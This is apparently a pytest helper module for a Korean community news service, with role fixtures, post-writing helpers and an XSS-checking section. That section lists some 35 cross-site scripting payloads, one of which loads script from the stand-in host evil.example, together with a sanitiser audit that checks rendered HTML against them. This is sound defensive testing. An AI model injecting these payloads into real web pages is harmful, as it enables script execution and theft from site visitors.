"""The news tests' cast: one account of every role, and helpers to write posts through the service."""

from __future__ import annotations

import re
from dataclasses import dataclass
from datetime import timedelta
from html.parser import HTMLParser

import pytest
from sqlalchemy import update

from sharing.core.db import utcnow
from sharing.core.extensions import db
from sharing.core.time import seoul_today
from sharing.news import services
from sharing.news.models import Post


@dataclass
class Cast:
    resident: object
    unverified_member: object
    author: object  # member of the verified organisation that writes
    other_member: object  # member of another verified organisation
    centre: object
    org: object
    unverified_org: object
    other_org: object

    def user(self, role: str):
        return None if role == "anonymous" else getattr(self, role)


ROLES = ("anonymous", "resident", "unverified_member", "author", "other_member", "centre")


@pytest.fixture(autouse=True)
def _fast_password_hashing(monkeypatch):
    """scrypt costs ~0.4 s a user on the shared CPUs; these tests make six users each."""
    from werkzeug.security import generate_password_hash

    from sharing.auth import services as auth_services

    monkeypatch.setattr(
        auth_services, "hash_password", lambda pw: generate_password_hash(pw, method="pbkdf2:sha256:1000")
    )


@pytest.fixture
def cast(make):
    author = make.user(name="글쓴이", dong="장위1동")
    org = make.org(author, name="동네목수", dong="장위1동")
    unverified_member = make.user(name="대기조직원")
    unverified_org = make.org(unverified_member, name="새싹협동조합", verified=False)
    other_member = make.user(name="다른조직원")
    other_org = make.org(other_member, name="나무와 열매", dong="삼선동")
    centre = make.centre(email="centre@example.kr")
    resident = make.user(name="주민", dong="정릉3동")
    return Cast(resident, unverified_member, author, other_member, centre, org, unverified_org, other_org)


def future(days: int = 7):
    return seoul_today() + timedelta(days=days)


@pytest.fixture
def write(cast):
    """``write(**fields)``: a post by ``cast.author`` for ``cast.org`` (override ``actor=``)."""

    def _write(actor=None, **fields):
        actor = actor or cast.author
        data = {"title": "마을 소식", "body": "본문입니다.", "category": "social_economy"}
        if not actor.is_centre or "organization_id" in fields:
            data["organization_id"] = cast.org.id
        data.update(fields)
        post = services.create(actor, data)
        return post.id

    return _write


def make_due(post_id: int) -> None:
    """Move a scheduled post's time into the past (what the passing of time would do)."""
    db.session.execute(
        update(Post).where(Post.id == post_id).values(publish_at=utcnow() - timedelta(minutes=1))
    )
    db.session.commit()


# --- XSS checks ------------------------------------------------------------------------------------

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "![x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1) )",
    "[x](javascript://%0aalert(1))",
    '<a href="vbscript:msgbox(1)">x</a>',
    "[x](vbscript:msgbox(1))",
    "[x](VBScript:msgbox(1))",
    '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
    '[x](https://ok.example "title" onmouseover="alert(1)")',
    '[x](https://ok.example" onmouseover="alert(1))',
    "<details open ontoggle=alert(1)>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<<script>script>alert(1)<</script>/script>",
    "<!--<img src=x onerror=alert(1)>-->",
    "```\n<script>alert(1)</script>\n```",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "<object data=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
]

_DANGEROUS_TAGS = {"script", "svg", "iframe", "object", "embed", "math", "style", "form", "base", "meta"}
_URL_ATTRS = {"href", "src", "xlink:href", "action", "formaction", "data", "srcdoc", "background", "poster"}


class _Audit(HTMLParser):
    def __init__(self, allowed_tags=()):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.allowed = set(allowed_tags)

    def handle_starttag(self, tag, attrs):
        if tag in _DANGEROUS_TAGS and tag not in self.allowed:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"{tag} {name}=")
            if name == "style":
                self.problems.append(f"{tag} style=")
            if name in _URL_ATTRS and value:
                cleaned = re.sub(r"[\x00-\x20]", "", value).lower()  # the parser already decoded entities
                if cleaned.startswith(("javascript:", "vbscript:", "data:")):
                    self.problems.append(f"{tag} {name}={value}")

    handle_startendtag = handle_starttag


def assert_safe_html(markup: str, *, page: bool = False) -> None:
    """No script, no event handler attribute, no javascript:/vbscript:/data: URL (case-insensitive).

    ``page=True`` for whole pages: their own forms (search, report) are the site's, not the post's.
    """
    assert not re.search(r"<\s*script(?![^>]*\bsrc=\"/static/)", markup, re.I), markup
    assert not re.search(r"<[^<>]*\son[a-z]+\s*=", markup, re.I), markup
    assert not re.search(r"(href|src|action)\s*=\s*[\"']?\s*(javascript|vbscript|data):", markup, re.I), (
        markup
    )
    assert not re.search(r"<\s*(svg|iframe|object|embed|math)\b", markup, re.I), markup
    audit = _Audit(allowed_tags={"form", "script", "meta"} if page else ())
    audit.feed(markup)
    assert audit.problems == [], audit.problems
